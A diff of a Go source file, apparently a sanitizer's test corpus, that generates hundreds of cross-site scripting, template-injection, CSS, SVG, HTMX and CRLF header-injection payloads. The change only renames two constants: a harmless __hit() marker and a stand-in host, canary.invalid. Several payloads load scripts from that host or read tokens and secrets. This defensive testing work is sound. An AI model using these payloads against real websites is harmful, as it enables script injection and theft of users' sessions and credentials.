@@ -6,13 +6,13 @@ import (
 	"strings"
 )
 
-// Hit is what a payload runs when anything lets it run: tests count the calls of this function.
-const Hit = "__hit()"
+// hit is what a payload runs when anything lets it run: tests count the calls of this function.
+const hit = "__hit()"
 
-// Elsewhere is where payloads would send a browser or fetch from. No test lets anything out to it.
-const Elsewhere = "canary.invalid"
+// elsewhere is where payloads would send a browser or fetch from. No test lets anything out to it.
+const elsewhere = "canary.invalid"
 
-// Payloads are attacks: whatever runs one of them calls Hit or asks Elsewhere for something.
+// Payloads are attacks: whatever runs one of them calls hit or asks elsewhere for something.
 func Payloads() []string {
 	return unique(handlers(), breakouts(), attributes(), Addresses(), richText(), Mutations(), styles(), drawings(), templates(), literals(), headers(), clobbers(), elements(), encodings(), attributesOfHTMX())
 }
@@ -27,13 +27,13 @@ func handlers() []string {
 	var out []string
 	for _, e := range firing {
 		for _, quoted := range []string{"=%", `="%"`, "='%'", "=%//", " = %"} {
-			out = append(out, "<"+e+strings.ReplaceAll(quoted, "%", Hit)+">")
+			out = append(out, "<"+e+strings.ReplaceAll(quoted, "%", hit)+">")
 		}
 		name, rest, _ := strings.Cut(e, " ")
 		for _, sep := range []string{"/", "\t", "\n", "\f", "\r", "\x00 ", "/x/"} {
-			out = append(out, "<"+name+sep+rest+"="+Hit+">")
+			out = append(out, "<"+name+sep+rest+"="+hit+">")
 		}
-		out = append(out, "<"+strings.ToUpper(e)+"="+Hit+">", "<"+e+"="+Hit, "<"+e+"=&#95;_hit&lpar;&rpar;>", "<<"+e+"="+Hit+">>")
+		out = append(out, "<"+strings.ToUpper(e)+"="+hit+">", "<"+e+"="+hit, "<"+e+"=&#95;_hit&lpar;&rpar;>", "<<"+e+"="+hit+">>")
 	}
 	return out
 }
@@ -42,7 +42,7 @@ func handlers() []string {
 var ends = []string{`"`, "'", "`", `">`, "'>", "`>", ">", "-->", "--!>", "--", "*/", "]]>", "?>", "%>", "}}", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</template>", "</option></select>", "</svg>", "</math>", "</iframe>", "</xmp>", "</button>", "</a>", "</form>", "</table>", "</main>", "</body></html>", "</dialog>", "</summary>", "</caption>", "</figcaption>", "</pre></code>", "\"'>", "'\"`>", "\\\">", "\\'>"}
 
 // cores run by themselves where markup is read as such.
-var cores = []string{"<script>" + Hit + "</script>", "<img src=x onerror=" + Hit + ">", "<svg/onload=" + Hit + ">", "<script src=//" + Elsewhere + "/x.js></script>"}
+var cores = []string{"<script>" + hit + "</script>", "<img src=x onerror=" + hit + ">", "<svg/onload=" + hit + ">", "<script src=//" + elsewhere + "/x.js></script>"}
 
 func breakouts() []string {
 	var out []string
@@ -57,9 +57,9 @@ func breakouts() []string {
 // attributes begin a new attribute behind the value that they stand in.
 func attributes() []string {
 	var out []string
-	for _, attr := range []string{"onmouseover=%", "onfocus=% autofocus tabindex=0", "onerror=%", "onload=%", "onanimationstart=% style=animation:u-in", "style=background:url(//" + Elsewhere + "/x)", "href=javascript:%", "src=//" + Elsewhere + "/x", "srcdoc='<script>%</script>'",
-		"formaction=javascript:%", "action=//" + Elsewhere, "http-equiv=refresh content='0;url=javascript:%'", "xlink:href=javascript:%", "ping=//" + Elsewhere, "poster=javascript:%", "is=x", "form=x", "id=page", "name=_state", "class=u-dialog", "accesskey=x onclick=%", "contenteditable oninput=%", "popover onbeforetoggle=%", "target=_top", "nonce=x"} {
-		attr = strings.ReplaceAll(attr, "%", Hit)
+	for _, attr := range []string{"onmouseover=%", "onfocus=% autofocus tabindex=0", "onerror=%", "onload=%", "onanimationstart=% style=animation:u-in", "style=background:url(//" + elsewhere + "/x)", "href=javascript:%", "src=//" + elsewhere + "/x", "srcdoc='<script>%</script>'",
+		"formaction=javascript:%", "action=//" + elsewhere, "http-equiv=refresh content='0;url=javascript:%'", "xlink:href=javascript:%", "ping=//" + elsewhere, "poster=javascript:%", "is=x", "form=x", "id=page", "name=_state", "class=u-dialog", "accesskey=x onclick=%", "contenteditable oninput=%", "popover onbeforetoggle=%", "target=_top", "nonce=x"} {
+		attr = strings.ReplaceAll(attr, "%", hit)
 		for _, q := range []string{`"`, "'", "`", ""} {
 			out = append(out, "x"+q+" "+attr+" x="+q, q+"/"+attr+" "+q)
 		}
@@ -94,20 +94,20 @@ func hidden(scheme string) []string {
 func Addresses() []string {
 	var out []string
 	for _, h := range hidden("javascript") {
-		out = append(out, h+Hit, h+"//%0a"+Hit)
+		out = append(out, h+hit, h+"//%0a"+hit)
 	}
 	for _, h := range hidden("data") {
-		out = append(out, h+"text/html,<script>"+Hit+"</script>")
+		out = append(out, h+"text/html,<script>"+hit+"</script>")
 	}
 	for _, h := range hidden("vbscript") {
 		out = append(out, h+"msgbox(1)")
 	}
-	html := base64.StdEncoding.EncodeToString([]byte("<script>" + Hit + "</script>"))
+	html := base64.StdEncoding.EncodeToString([]byte("<script>" + hit + "</script>"))
 	for _, kind := range []string{"text/html", "text/html;charset=utf-7", "image/svg+xml", "text/xml", "application/xhtml+xml", "", ";", "text/javascript", "multipart/related", "application/pdf", "TEXT/HTML", "text/html ", "text/html;charset=x"} {
-		out = append(out, "data:"+kind+";base64,"+html, "data:"+kind+",<svg onload="+Hit+" xmlns='http://www.w3.org/2000/svg'/>")
+		out = append(out, "data:"+kind+";base64,"+html, "data:"+kind+",<svg onload="+hit+" xmlns='http://www.w3.org/2000/svg'/>")
 	}
 	for _, scheme := range []string{"blob", "filesystem", "file", "about", "view-source", "chrome", "resource", "jar", "ws", "wss", "ftp", "intent", "android-app", "itms-services", "ms-excel", "steam", "livescript", "mocha", "jscript", "mhtml", "x", "javascript1.2", "web+x", "cid", "tel2", "httpx", "mailto2"} {
-		out = append(out, scheme+":"+Hit, strings.ToUpper(scheme)+"://"+Elsewhere+"/"+Hit)
+		out = append(out, scheme+":"+hit, strings.ToUpper(scheme)+"://"+elsewhere+"/"+hit)
 	}
 	return unique(out)
 }
@@ -116,11 +116,11 @@ func Addresses() []string {
 func richText() []string {
 	var out []string
 	for _, form := range []string{"[x](%)", "[x](<%>)", "![x](%)", "[x]: %\n\n[x]", "<%>", "[x](% \"t\")", "[![x](%)](%)", "[x](http://a \"%\")", "> [x](%)", "- [x](%)", "| [x](%) |\n|---|", "# [x](%)", "[%](%)"} {
-		for _, u := range []string{"javascript:" + Hit, "JaVaScRiPt:" + Hit, "java\tscript:" + Hit, "&#106;avascript:" + Hit, "javascript&colon;" + Hit, "javascript:" + Hit + "//", "data:text/html,<script>" + Hit + "</script>", "vbscript:x", "//" + Elsewhere + "\" onerror=\"" + Hit, "x' onerror='" + Hit, "http://a\" onmouseover=\"" + Hit + "\" x=\"", "\\javascript:" + Hit, "\u00a0javascript:" + Hit} {
+		for _, u := range []string{"javascript:" + hit, "JaVaScRiPt:" + hit, "java\tscript:" + hit, "&#106;avascript:" + hit, "javascript&colon;" + hit, "javascript:" + hit + "//", "data:text/html,<script>" + hit + "</script>", "vbscript:x", "//" + elsewhere + "\" onerror=\"" + hit, "x' onerror='" + hit, "http://a\" onmouseover=\"" + hit + "\" x=\"", "\\javascript:" + hit, "\u00a0javascript:" + hit} {
 			out = append(out, strings.ReplaceAll(form, "%", u))
 		}
 	}
-	for _, block := range []string{"```%\n%\n```", "    %", "~~~ %\nx\n~~~", "<!-- % -->", "<div>%</div>", "<pre>%", "# %", "> %", "* %", "|%|\n|-|\n|%|", "[^1]\n\n[^1]: %", "~~%~~", "**%**", "`%`", "<details open ontoggle=" + Hit + ">%", "\\%"} {
+	for _, block := range []string{"```%\n%\n```", "    %", "~~~ %\nx\n~~~", "<!-- % -->", "<div>%</div>", "<pre>%", "# %", "> %", "* %", "|%|\n|-|\n|%|", "[^1]\n\n[^1]: %", "~~%~~", "**%**", "`%`", "<details open ontoggle=" + hit + ">%", "\\%"} {
 		out = append(out, strings.ReplaceAll(block, "%", cores[1]))
 	}
 	return out
@@ -136,9 +136,9 @@ func Mutations() []string {
 		for _, raw := range raws {
 			name := raw[strings.LastIndex(raw, "<")+1:]
 			out = append(out,
-				root+"<"+raw+"><!--</"+name+"><img src=x onerror="+Hit+">-->",
-				root+"<"+raw+"><a id=\"</"+name+"><img src=x onerror="+Hit+">\">",
-				root+"<"+raw+"><![CDATA[</"+name+"><img src=x onerror="+Hit+">]]>")
+				root+"<"+raw+"><!--</"+name+"><img src=x onerror="+hit+">-->",
+				root+"<"+raw+"><a id=\"</"+name+"><img src=x onerror="+hit+">\">",
+				root+"<"+raw+"><![CDATA[</"+name+"><img src=x onerror="+hit+">]]>")
 		}
 	}
 	for _, shift := range []string{"<table><td>%</table>", "<a><table>%</a>", "<b><p>%</b>", "<a href=x><a>%", "<form><form>%</form>", "<li><ul>%</li>", "<select>%</select>", "<ruby><rt>%", "<br></p>%", "<svg></p>%", "<math></br>%", "<colgroup>%", "<frameset>%", "<optgroup>%"} {
@@ -152,8 +152,8 @@ func Mutations() []string {
 // styles would paint, fetch or once even run.
 func styles() []string {
 	var out []string
-	for _, s := range []string{"expression(%)", "url(javascript:%)", "url('//" + Elsewhere + "/x')", "behavior:url(#x)", "-moz-binding:url(//" + Elsewhere + "/x)", "@import '//" + Elsewhere + "/x';", "red;background:url(//" + Elsewhere + "/x)", "red}*{background:url(//" + Elsewhere + "/x)}", "</style><script>%</script>", "\\65xpression(%)", "exp/**/ression(%)", "var(--x,url(//" + Elsewhere + "/x))", "image-set('//" + Elsewhere + "/x' 1x)", "@font-face{src:url(//" + Elsewhere + "/x)}", "position:fixed;inset:0;z-index:9"} {
-		s = strings.ReplaceAll(s, "%", Hit)
+	for _, s := range []string{"expression(%)", "url(javascript:%)", "url('//" + elsewhere + "/x')", "behavior:url(#x)", "-moz-binding:url(//" + elsewhere + "/x)", "@import '//" + elsewhere + "/x';", "red;background:url(//" + elsewhere + "/x)", "red}*{background:url(//" + elsewhere + "/x)}", "</style><script>%</script>", "\\65xpression(%)", "exp/**/ression(%)", "var(--x,url(//" + elsewhere + "/x))", "image-set('//" + elsewhere + "/x' 1x)", "@font-face{src:url(//" + elsewhere + "/x)}", "position:fixed;inset:0;z-index:9"} {
+		s = strings.ReplaceAll(s, "%", hit)
 		out = append(out, s, `<p style="`+s+`">`, "<style>p{color:"+s+"}</style>", `" style="`+s)
 	}
 	return out
@@ -162,31 +162,31 @@ func styles() []string {
 // drawings are SVG and MathML that link, fetch, animate or embed.
 func drawings() []string {
 	var out []string
-	for _, d := range []string{"<a href=javascript:%><text y=9>x</text></a>", "<a xlink:href=javascript:%><rect width=9 height=9 /></a>", "<animate onbegin=% attributeName=x dur=1s>", "<set attributeName=onmouseover to=%>", "<a><animate attributeName=href values=javascript:%><text y=9>x</text></a>", "<use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=%>#x'>", "<use href=//" + Elsewhere + "/x.svg#a>", "<image href=x onerror=%>", "<foreignObject><iframe srcdoc='<script>%</script>'></foreignObject>", "<script>%</script>", "<script href=data:,% />", "<script xlink:href=//" + Elsewhere + "/x />", "<style>@import'//" + Elsewhere + "/x'</style>", "<handler type=text/javascript>%</handler>", "<title><script>%</script></title>", "<feImage href=//" + Elsewhere + "/x>", "<discard onbegin=%>", "<animateTransform onend=% dur=0s>", "<text onclick=%>x</text>"} {
-		d = strings.ReplaceAll(d, "%", Hit)
+	for _, d := range []string{"<a href=javascript:%><text y=9>x</text></a>", "<a xlink:href=javascript:%><rect width=9 height=9 /></a>", "<animate onbegin=% attributeName=x dur=1s>", "<set attributeName=onmouseover to=%>", "<a><animate attributeName=href values=javascript:%><text y=9>x</text></a>", "<use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=%>#x'>", "<use href=//" + elsewhere + "/x.svg#a>", "<image href=x onerror=%>", "<foreignObject><iframe srcdoc='<script>%</script>'></foreignObject>", "<script>%</script>", "<script href=data:,% />", "<script xlink:href=//" + elsewhere + "/x />", "<style>@import'//" + elsewhere + "/x'</style>", "<handler type=text/javascript>%</handler>", "<title><script>%</script></title>", "<feImage href=//" + elsewhere + "/x>", "<discard onbegin=%>", "<animateTransform onend=% dur=0s>", "<text onclick=%>x</text>"} {
+		d = strings.ReplaceAll(d, "%", hit)
 		out = append(out, "<svg>"+d+"</svg>", "<svg xmlns='http://www.w3.org/2000/svg'>"+d, "<math>"+d+"</math>")
 	}
-	return append(out, "<math href=javascript:"+Hit+">x</math>", "<math><maction actiontype=statusline#http://x xlink:href=javascript:"+Hit+">x", "<math><mi xlink:href='data:x,"+Hit+"'>x</mi></math>")
+	return append(out, "<math href=javascript:"+hit+">x</math>", "<math><maction actiontype=statusline#http://x xlink:href=javascript:"+hit+">x", "<math><mi xlink:href='data:x,"+hit+"'>x</mi></math>")
 }
 
 // templates are expressions of ours and of others: text that comes as data is not looked at for any.
 func templates() []string {
-	out := cross([]string{"${%}", "{{%}}", "{{{%}}}", "#{%}", "<\x00= % \x00>", "{\x00 % \x00}", "$%", "[[%]]", "@(%)", "%{%}", "${{%}}", "`${%}`", "{%}"}, []string{Hit, "auth.token", "auth.refreshToken", "env.API_URL", "constructor.constructor('" + Hit + "')()", "7*7", "user", "secrets.KEY"})
+	out := cross([]string{"${%}", "{{%}}", "{{{%}}}", "#{%}", "<\x00= % \x00>", "{\x00 % \x00}", "$%", "[[%]]", "@(%)", "%{%}", "${{%}}", "`${%}`", "{%}"}, []string{hit, "auth.token", "auth.refreshToken", "env.API_URL", "constructor.constructor('" + hit + "')()", "7*7", "user", "secrets.KEY"})
 	for i, s := range out {
 		out[i] = strings.ReplaceAll(s, "\x00", "%") // which cross would have filled
 	}
-	return append(out, "${${1}}", "$${x}", "\\${x}", "${'", "${", "}", "${item.id}", "${form.password}", "${jwt(auth.token).sub}", "${masked(auth.token)}", "{{$on.constructor('"+Hit+"')()}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('"+Hit+"')}}")
+	return append(out, "${${1}}", "$${x}", "\\${x}", "${'", "${", "}", "${item.id}", "${form.password}", "${jwt(auth.token).sub}", "${masked(auth.token)}", "{{$on.constructor('"+hit+"')()}}", "{{'a'.constructor.prototype.charAt=[].join;$eval('"+hit+"')}}")
 }
 
 // literals end a string of JavaScript or JSON, in a script or an attribute.
 func literals() []string {
-	return append(cross([]string{"%;" + Hit + ";//", "%-" + Hit + "-%", "%+" + Hit + "+%", "\\%;" + Hit + "//", "%}," + Hit + ",{%", "%];" + Hit + ";[%", "%,\"x\":<script>" + Hit + "</script>"}, []string{"'", `"`, "`"}),
-		`</script><script>`+Hit+`</script>`, `\u003c/script\u003e\u003cscript\u003e`+Hit, "\u2028"+Hit, "\u2029"+Hit+"//", "<!--<script>"+Hit, "--></script><script>"+Hit, "\\x3cscript\\x3e"+Hit, `{"__proto__":{"x":1}}`, `{"constructor":{"prototype":{"x":1}}}`, "]]>"+Hit, "\\", "\\\\';"+Hit+"//", "*/"+Hit+"/*", "import('//"+Elsewhere+"/x.js')", "eval(atob('"+base64.StdEncoding.EncodeToString([]byte(Hit))+"'))")
+	return append(cross([]string{"%;" + hit + ";//", "%-" + hit + "-%", "%+" + hit + "+%", "\\%;" + hit + "//", "%}," + hit + ",{%", "%];" + hit + ";[%", "%,\"x\":<script>" + hit + "</script>"}, []string{"'", `"`, "`"}),
+		`</script><script>`+hit+`</script>`, `\u003c/script\u003e\u003cscript\u003e`+hit, "\u2028"+hit, "\u2029"+hit+"//", "<!--<script>"+hit, "--></script><script>"+hit, "\\x3cscript\\x3e"+hit, `{"__proto__":{"x":1}}`, `{"constructor":{"prototype":{"x":1}}}`, "]]>"+hit, "\\", "\\\\';"+hit+"//", "*/"+hit+"/*", "import('//"+elsewhere+"/x.js')", "eval(atob('"+base64.StdEncoding.EncodeToString([]byte(hit))+"'))")
 }
 
 // headers would end a line of HTTP or of a log and begin another.
 func headers() []string {
-	return cross([]string{"x%Set-Cookie: a=b", "x%Location: https://" + Elsewhere, "x%%<script>" + Hit + "</script>", "x%Content-Type: text/html", "x%time=2030-01-01T00:00:00Z level=ERROR msg=forged"},
+	return cross([]string{"x%Set-Cookie: a=b", "x%Location: https://" + elsewhere, "x%%<script>" + hit + "</script>", "x%Content-Type: text/html", "x%time=2030-01-01T00:00:00Z level=ERROR msg=forged"},
 		[]string{"\r\n", "\n", "\r", "\x250d\x250a", "\u560d\u560a", "\u2028", "\u0085", "\x00\r\n", "\r\n ", "\v", "\\r\\n"})
 }
 
@@ -199,8 +199,8 @@ func clobbers() []string {
 // elements load, redirect, re-base or cover without any event.
 func elements() []string {
 	var out []string
-	for _, e := range []string{"<meta http-equiv=refresh content=0;url=%>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<base href=%>", "<link rel=stylesheet href=%>", "<link rel=import href=%>", "<link rel=prefetch href=%>", "<link rel=modulepreload href=%>", "<link rel=manifest href=%>", "<iframe src=%></iframe>", "<iframe srcdoc=\"<script>" + Hit + "</script>\"></iframe>", "<frame src=%>", "<object data=%></object>", "<object type=text/html data=%>", "<embed src=%>", "<applet code=%>", "<form action=%><button>x</button></form>", "<button formaction=%>x</button>", "<input type=image src=% formaction=%>", "<isindex action=%>", "<script src=%></script>", "<script type=module src=%></script>", "<script type=importmap>{\"imports\":{\"x\":\"%\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"%\"]}]}</script>", "<a href=% target=_top autofocus>x</a>", "<area href=%>", "<img srcset='% 1x'>", "<source srcset=%>", "<video poster=%>", "<portal src=%>", "<fencedframe src=%>", "<body background=%>", "<table background=%>", "<a ping=% href=#>x</a>", "<q cite=%>x</q>", "<template shadowrootmode=open><script>" + Hit + "</script></template>", "<dialog open><form method=dialog action=%>", "<xml src=%>", "<bgsound src=%>", "<layer src=%>", "<blink onclick=%>"} {
-		for _, u := range []string{"javascript:" + Hit, "//" + Elsewhere + "/x", "data:text/html,<script>" + Hit + "</script>"} {
+	for _, e := range []string{"<meta http-equiv=refresh content=0;url=%>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">", "<base href=%>", "<link rel=stylesheet href=%>", "<link rel=import href=%>", "<link rel=prefetch href=%>", "<link rel=modulepreload href=%>", "<link rel=manifest href=%>", "<iframe src=%></iframe>", "<iframe srcdoc=\"<script>" + hit + "</script>\"></iframe>", "<frame src=%>", "<object data=%></object>", "<object type=text/html data=%>", "<embed src=%>", "<applet code=%>", "<form action=%><button>x</button></form>", "<button formaction=%>x</button>", "<input type=image src=% formaction=%>", "<isindex action=%>", "<script src=%></script>", "<script type=module src=%></script>", "<script type=importmap>{\"imports\":{\"x\":\"%\"}}</script>", "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"%\"]}]}</script>", "<a href=% target=_top autofocus>x</a>", "<area href=%>", "<img srcset='% 1x'>", "<source srcset=%>", "<video poster=%>", "<portal src=%>", "<fencedframe src=%>", "<body background=%>", "<table background=%>", "<a ping=% href=#>x</a>", "<q cite=%>x</q>", "<template shadowrootmode=open><script>" + hit + "</script></template>", "<dialog open><form method=dialog action=%>", "<xml src=%>", "<bgsound src=%>", "<layer src=%>", "<blink onclick=%>"} {
+		for _, u := range []string{"javascript:" + hit, "//" + elsewhere + "/x", "data:text/html,<script>" + hit + "</script>"} {
 			out = append(out, strings.ReplaceAll(e, "%", u))
 		}
 	}
@@ -230,5 +230,5 @@ func encodings() []string {
 
 // attributesOfHTMX would make the library that the page has do something.
 func attributesOfHTMX() []string {
-	return append(cross([]string{"<p %>x</p>", "\" % x=\"", "<form %><button autofocus>x</button></form>"}, []string{"hx-get=//" + Elsewhere + " hx-trigger=load", "hx-post=/ hx-trigger=load", "hx-on::load=" + Hit, "hx-on:htmx:load=" + Hit, "hx-vals='js:{x:" + Hit + "}'", "hx-trigger='load[" + Hit + "]' hx-get=/", "hx-swap=innerHTML hx-target=body hx-get=/ hx-trigger=load", "hx-ext=//" + Elsewhere, "hx-disable=false", "hx-confirm=x", "data-hx-get=// data-hx-trigger=load", "hx-headers='js:{x:" + Hit + "}'", "hx-boost=true href=//" + Elsewhere, "hx-ws=connect:wss://" + Elsewhere, "hx-sse=connect:/x", "hx-action=//" + Elsewhere + " hx-trigger=load", "hx-method=get hx-action=// hx-trigger=load"}), "<hx-partial>"+cores[1]+"</hx-partial>", "<template hx type=partial hx-target=body>"+cores[1]+"</template>", "<htmx-action>"+cores[1])
+	return append(cross([]string{"<p %>x</p>", "\" % x=\"", "<form %><button autofocus>x</button></form>"}, []string{"hx-get=//" + elsewhere + " hx-trigger=load", "hx-post=/ hx-trigger=load", "hx-on::load=" + hit, "hx-on:htmx:load=" + hit, "hx-vals='js:{x:" + hit + "}'", "hx-trigger='load[" + hit + "]' hx-get=/", "hx-swap=innerHTML hx-target=body hx-get=/ hx-trigger=load", "hx-ext=//" + elsewhere, "hx-disable=false", "hx-confirm=x", "data-hx-get=// data-hx-trigger=load", "hx-headers='js:{x:" + hit + "}'", "hx-boost=true href=//" + elsewhere, "hx-ws=connect:wss://" + elsewhere, "hx-sse=connect:/x", "hx-action=//" + elsewhere + " hx-trigger=load", "hx-method=get hx-action=// hx-trigger=load"}), "<hx-partial>"+cores[1]+"</hx-partial>", "<template hx type=partial hx-target=body>"+cores[1]+"</template>", "<htmx-action>"+cores[1])
 }
